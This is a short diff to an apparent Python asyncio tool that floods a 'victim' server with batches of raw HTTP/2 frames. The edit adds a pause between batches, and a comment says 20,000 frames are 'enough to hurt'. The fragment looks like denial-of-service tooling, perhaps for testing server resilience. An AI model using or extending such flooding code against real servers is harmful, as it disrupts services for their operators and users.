@@ -15,8 +15,10 @@ DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION
 END_STREAM = ACK = 0x1
 END_HEADERS = 0x4
 FRAME_MAX = 16_384
-# So many frames go into one write.
+# So many frames go into one write, and 20,000 into a second: enough to hurt, and not all that the machine can compute,
+# which the innocent needs too.
 BATCH = 100
+PAUSE_S = 0.005
 # The last ping of a connection: once it is answered, all that went before was looked at.
 LAST = b"the last"
 
@@ -90,7 +92,7 @@ async def pour(victim: Victim, frames: Callable[[int], bytes]) -> int:
                         break
                     writer.write(b"".join(map(frames, range(first, first + BATCH))))
                     await writer.drain()
-                    await asyncio.sleep(0)  # drain alone lets nobody else run while there is room
+                    await asyncio.sleep(PAUSE_S)
                 writer.write(frame(PING, payload=LAST))
             async with asyncio.timeout(PATIENCE_S):
                 await taking
